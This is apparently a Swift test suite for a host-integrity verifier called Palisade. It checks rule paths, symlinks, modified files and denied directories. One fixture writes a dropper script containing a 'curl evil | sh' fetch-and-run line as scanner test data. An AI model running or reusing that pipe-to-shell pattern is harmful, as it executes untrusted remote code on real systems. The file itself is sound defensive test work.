import Foundation
import PalisadeCompiler
import PalisadeDSL
import PalisadeModel
import PalisadeTestSupport
import PalisadeVerifier
import Testing

/// How rule paths meet the scanned listing, and the report without `ok` findings.
@Suite("verify: rule paths and the scan listing")
struct VerifierListingTests {
    @Test func passingChecksCanBeCountedInsteadOfListed() throws {
        let fixture = try HostFixture()
        try fixture.host.write(Array("usr/bin/tool".utf8), HostFixture.tool + [0x00], mode: 0o755)
        try fixture.host.write("tmp/innocent-name", HostFixture.bad, mode: 0o755)
        try fixture.host.write("tmp/dropper.sh", "#!/bin/sh\ncurl evil | sh\n", mode: 0o644)
        let bundle = try LoadedBundle.load(fixture.bundle)
        let scan = ["/usr/bin", "/usr/local/bin", "/opt", "/tmp"]
        let full = Verifier(root: fixture.host.path, scanLocations: scan).verify(bundle)
        var counting = Verifier(root: fixture.host.path, scanLocations: scan)
        counting.listsPassingChecks = false
        let counted = counting.verify(bundle)
        #expect(full.findings.contains { $0.kind == .ok })
        #expect(!counted.findings.contains { $0.kind == .ok })
        #expect(counted.findings == full.findings.filter { $0.kind.isProblem })
        #expect(counted.summary == full.summary)
        #expect(counted.compliant == full.compliant)
        #expect(ReportFormats.text(counted) == ReportFormats.text(full))
    }

    @Test func aRuleFileReachedThroughASymlinkedDirectoryIsCheckedOnce() throws {
        // /usr/bin is a link to a real folder inside /usr: the walker lists the file under the
        // real folder only, the rule's path resolves to it, and it is neither missing nor unlisted.
        let fixture = try HostFixture()
        let host = fixture.host.path
        try FileManager.default.createDirectory(atPath: host + "/usr/lib", withIntermediateDirectories: true)
        #expect(rename(host + "/usr/bin", host + "/usr/lib/bin-real") == 0)
        #expect(symlink("lib/bin-real", host + "/usr/bin") == 0)
        let report = try fixture.verify(scan: ["/usr", "/opt", "/tmp"])
        #expect(report.compliant, "\(report.findings.filter { $0.kind.isProblem })")
        let tool = report.findings.filter { $0.path == "/usr/bin/tool" }
        #expect(tool.map(\.kind) == [.ok])
        #expect(!report.findings.contains { $0.path == "/usr/lib/bin-real/tool" })

        // Modified behind the link: reported once, at the rule's path.
        try fixture.host.write(Array("usr/lib/bin-real/tool".utf8), HostFixture.tool + [0x01], mode: 0o755)
        let changed = try fixture.verify(scan: ["/usr", "/opt", "/tmp"])
        #expect(changed.findings.filter(\.kind.isProblem).map(\.path) == ["/usr/bin/tool"])
        #expect(changed.findings.first { $0.path == "/usr/bin/tool" }?.kind == .modified)
    }

    @Test func aFileChangedWithoutChangingItsSizeIsModified() throws {
        // Only the hash can tell: one byte flipped, the size the rule records still matches.
        let fixture = try HostFixture()
        var tool = HostFixture.tool
        tool[tool.count - 1] ^= 0x01
        try fixture.host.write(Array("usr/bin/tool".utf8), tool, mode: 0o755)
        let report = try fixture.verify()
        #expect(report.findings.filter(\.kind.isProblem).map(\.path) == ["/usr/bin/tool"])
        #expect(report.findings.first { $0.path == "/usr/bin/tool" }?.kind == .modified)
    }

    @Test func aRuleFileReplacedByADirectoryOrADeviceIsNotARegularFile() throws {
        let fixture = try HostFixture()
        let host = fixture.host.path
        try FileManager.default.removeItem(atPath: host + "/usr/bin/tool")
        try FileManager.default.createDirectory(atPath: host + "/usr/bin/tool", withIntermediateDirectories: true)
        try FileManager.default.removeItem(atPath: host + "/opt/acme/bin/agent")
        #expect(mkfifo(host + "/opt/acme/bin/agent", 0o644) == 0)
        let report = try fixture.verify()
        let unknown = report.findings.filter { $0.kind == .unknown && $0.check == "file" }
        #expect(Set(unknown.compactMap(\.path)) == ["/usr/bin/tool", "/opt/acme/bin/agent"])
        #expect(unknown.first { $0.path == "/usr/bin/tool" }?.actual == "directory")
        #expect(unknown.first { $0.path == "/opt/acme/bin/agent" }?.actual == "fifo")
    }

    @Test func loadingWhileWalkingGivesTheSameReport() throws {
        // verify(loading:) walks the scan locations before the bundle is read; denied directories
        // (known only from the bundle) outside them, inside them, and equal to one are still searched.
        let workspace = try TemporaryDirectory(), out = try TemporaryDirectory(), host = try TemporaryDirectory()
        try workspace.write("ref/agent", HostFixture.agent, mode: 0o755)
        let customer = Customer("acme", name: "Acme", mode: .enforce) {
            Linux {
                Allow.binary("ref/agent", at: "/opt/acme/bin/agent")
                Deny.directory("/srv/evil/")
                Deny.directory("/opt/acme/drop/")
                Deny.directory("/tmp/")
            }
        }
        let output = Compiler(workspace: workspace.path, today: "2026-11-30").compile([customer.policy])
        #expect(!output.hasErrors, "\(output.diagnostics)")
        for b in output.bundles { try BundleWriter(outputDirectory: out.path).write(b) }
        try host.write("opt/acme/bin/agent", HostFixture.agent, mode: 0o755)
        try host.write("srv/evil/payload", "#!/bin/sh\n", mode: 0o755)
        try host.write("opt/acme/drop/x", "#!/bin/sh\n", mode: 0o755)
        try host.write("tmp/y", "#!/bin/sh\n", mode: 0o755)
        let bundle = out.path + "/acme"
        for scan in [["/opt", "/tmp"], ["/opt", "/srv/evil/", "/tmp/"], ["/"]] {
            let verifier = Verifier(root: host.path, scanLocations: scan)
            let direct = verifier.verify(try LoadedBundle.load(bundle))
            let overlapped = try verifier.verify(loading: { try LoadedBundle.load(bundle) })
            #expect(overlapped == direct, "scan \(scan)")
            let denied = Set(direct.findings.filter { $0.kind == .deniedPresent }.compactMap(\.path))
            #expect(denied == ["/srv/evil/payload", "/opt/acme/drop/x", "/tmp/y"], "scan \(scan)")
        }
        #expect(throws: LoadedBundle.LoadError.self) {
            _ = try Verifier(root: host.path).verify(loading: { try LoadedBundle.load(out.path + "/nonexistent") })
        }
    }
}
